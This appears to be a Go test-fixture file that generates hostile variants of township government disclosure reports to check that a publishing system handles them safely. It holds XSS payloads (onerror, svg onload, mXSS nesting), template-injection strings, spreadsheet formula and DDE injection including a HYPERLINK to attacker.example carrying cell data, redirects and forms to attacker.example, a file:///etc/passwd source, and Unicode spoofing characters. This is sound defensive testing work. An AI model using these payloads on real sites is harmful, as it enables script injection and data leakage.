package hostile

import "strings"

// markup tries to have words of a document taken for HTML, for a template or for a script.
func markup() []Document {
	const images = `<img src=x onerror="window.pwned=1"> <svg onload="window.pwned=1"></svg> <iframe srcdoc="<script>parent.pwned=1</script>"></iframe> <style>body{display:none}</style>`
	return []Document{
		document("script-in-cell", "a script in a cell", text{town: "函谷关镇", year: 2021, cell: script}, script),
		document("script-in-title", "a script in the title", text{town: "函谷关镇", year: 2022, title: "灵宝市函谷关镇2022年政府信息公开工作年度报告" + script}),
		document("script-in-heading", "a script in a heading", text{town: "函谷关镇", year: 2023, heading: "存在的主要问题" + script}, script),
		document("script-closed", "a title that closes the script element in which charts and citations keep their data",
			text{town: "函谷关镇", year: 2024, title: "</script>" + script + "灵宝市函谷关镇2024年政府信息公开工作年度报告"}),
		document("comment-closed", "words that close a comment, a character section, a title or a text area",
			text{town: "焦村镇", year: 2021, narrative: "--> ]]> </title></textarea></noscript>" + script}, "--> ]]> </title></textarea></noscript>"+script),
		document("elements", "elements that load or run something by themselves", text{town: "焦村镇", year: 2022, narrative: images}, images),
		document("attribute", "words that end an attribute and begin another", text{town: "焦村镇", year: 2023,
			title: `" autofocus onfocus="window.pwned=1" x='灵宝市焦村镇2023年政府信息公开工作年度报告`, cell: `" onclick="window.pwned=1`, narrative: "' onmouseover='window.pwned=1' `onload=window.pwned=1`"},
			`" onclick="window.pwned=1`, "' onmouseover='window.pwned=1' `onload=window.pwned=1`"),
		document("template", "words of the language that pages are made with", text{town: "焦村镇", year: 2024,
			narrative: `{{.}} {{template "head" .}} {{define "foot"}}{{end}} ${7*7} <%= 7*7 %> #{7*7}`},
			`{{.}} {{template "head" .}} {{define "foot"}}{{end}} ${7*7} <%= 7*7 %> #{7*7}`),
		document("chart-words", "words that the library of charts puts into its tooltips as HTML or expands", text{town: "阳店镇", year: 2021,
			title: "灵宝市阳店镇2021年政府信息公开工作年度报告", narrative: `{a|<img src=x onerror=window.pwned=1>} {b} {c} {@[0]}`}, `{a|<img src=x onerror=window.pwned=1>} {b} {c} {@[0]}`),
		document("script-in-department", "a department whose name is a script: it stands in titles, feeds, the search and charts", text{town: "阳店镇", year: 2022,
			title: "灵宝市财政局" + script + "2022年政府信息公开工作年度报告"}),
		document("formula", "a title and words that a spreadsheet would run as a formula", text{town: "阳店镇", year: 2023,
			title: `=HYPERLINK("https://attacker.example/?"&A1,"灵宝市阳店镇2023年政府信息公开工作年度报告")`, cell: "=1+1", narrative: "+SUM(1,2)\n\n-2+3\n\n@SUM(1)\n\n=cmd|' /C calc'!A0"}),
		{Name: "markdown", Tries: "links, images and markup in Markdown", Says: []string{"正文"}, Files: map[string]string{"reports/markdown.md": strings.NewReplacer(
			"全年主动公开政府信息 12 条。", "正文 [甲](javascript:window.pwned=1) ](javascript:window.pwned=1) ![图](https://attacker.example/x.png) <javascript:window.pwned=1> "+script+" [乙]\n\n[乙]: vbscript:x\n").Replace(
			text{town: "阳店镇", year: 2024}.String())}},
		{Name: "web-page", Tries: "a web page with scripts, styles, frames, forms, a base and a refresh", Says: []string{"灵宝市川口乡"}, Files: map[string]string{
			"reports/web-page.html": page("2021", `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/x.css"><style>*{display:none}</style>`+script,
				`<p onclick="window.pwned=1" style="position:fixed;inset:0" id="main">正文<a href="javascript:window.pwned=1">甲</a><a href="//attacker.example/">乙</a></p><form action="https://attacker.example/"><input name="q"><button>搜索</button></form><iframe src="https://attacker.example/"></iframe><object data="x.swf"></object><embed src="x.swf"><img src="x" onerror="window.pwned=1"><svg><script>window.pwned=1</script></svg><math><mtext><table><mglyph><style><img src onerror=window.pwned=1></style></mglyph></table></mtext></math>`)}},
	}
}

// page is a report of 灵宝市川口乡 as a web page, with something in its head and in its text.
func page(year, head, body string) string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>灵宝市川口乡` + year + `年政府信息公开工作年度报告</title>` + head + "</head><body>" + body)
	for line := range strings.SplitSeq((text{town: "川口乡", title: "灵宝市川口乡" + year + "年政府信息公开工作年度报告"}).String(), "\n") {
		if cells := strings.Split(line, "\t"); len(cells) > 1 {
			b.WriteString("<table><tr><td>" + strings.Join(cells, "</td><td>") + "</td></tr></table>")
		} else {
			b.WriteString("<p>" + line + "</p>")
		}
	}
	return b.String() + "</body></html>"
}

// addresses tries to have a reader led, or something fetched, by a scheme that runs or tells.
func addresses() []Document {
	from := func(name, tries, year, address string) Document {
		return Document{Name: name, Tries: tries, Says: []string{"灵宝市川口乡"}, Files: map[string]string{
			"reports/" + name + ".html": page(year, `<link rel="canonical" href="`+address+`"><meta name="Url" content="`+address+`"><meta property="og:url" content="`+address+`">`, "")}}
	}
	list := []Document{
		from("address-script", "a page whose own address runs a script", "2022", "javascript:window.pwned=1//https://www.lingbao.gov.cn/"),
		from("address-data", "a page whose own address is a document", "2023", "data:text/html,<script>window.pwned=1</script>"),
		from("address-blanks", "a page whose own address hides its scheme behind blanks, case and characters", "2024", "\x01 JaVa\tScRiPt&colon;window.pwned=1"),
	}
	for i, address := range []string{"javascript:window.pwned=1", "//attacker.example/x", "file:///etc/passwd", "https://user:secret@attacker.example/\"><script>window.pwned=1</script>"} {
		name := "address-sidecar-" + string(rune('a'+i))
		d := document(name, "a sidecar whose source is "+strings.SplitAfter(address, ":")[0], text{town: "寺河乡", year: 2021 + i})
		d.Files["reports/"+name+".meta.yaml"] = "source: '" + address + "'\n"
		list = append(list, d)
	}
	return list
}

// characters tries to have words read otherwise than they stand, or to break what is made of them.
func characters() []Document {
	return []Document{
		document("bidi", "marks that turn the order of reading around, in title, cell and narrative", text{town: "五亩乡", year: 2021,
			title: "灵宝市五亩乡2021年\u202e告报度年作工开公息信府政\u202c政府信息公开工作年度报告", cell: "\u202e21\u202c", narrative: "公开 \u2066\u202e99\u202c\u2069 条，\u200f另有 3 条。"}),
		document("invisible", "characters without a width within numbers and names", text{town: "五亩乡", year: 2022,
			title: "灵宝市五\u200b亩\u2060乡2022年政府\ufeff信息公开工作年度报告", cell: "1\u200b2", narrative: "公开 1\u200d5 条。"}),
		document("control", "control characters, and ones that XML does not have", text{town: "五亩乡", year: 2023, cell: "\x001\x07", narrative: "公开\x01\x08\x0b\x1b[31m 条\ufffe\uffff。"}),
		document("not-unicode", "bytes that are no text, halves of characters, separators that end a script's line", text{town: "五亩乡", year: 2024, narrative: "公开\xed\xa0\x80\xc0\xaf\xf5\u2028\u2029条。"}),
		document("alike", "letters that look like digits and Latin letters", text{town: "朱阳镇", year: 2021, cell: "О", narrative: "公开 ⅯⅭ 条、𝟗𝟗 条、①② 条。"}),
		document("numbers", "numbers that are none, or too many digits for any machine", text{town: "朱阳镇", year: 2022, cell: "1e309", narrative: "公开 99999999999999999999999999999999 条，-0 条，0x7f 条，NaN 条，1,2,3 条，1e309 条。"}),
		document("long-number", "a cell of a million digits", text{town: "朱阳镇", year: 2023, cell: strings.Repeat("9", 1_000_000)}),
		document("years", "a year far away", text{town: "朱阳镇", title: "灵宝市朱阳镇99999年政府信息公开工作年度报告", year: 99999}),
	}
}
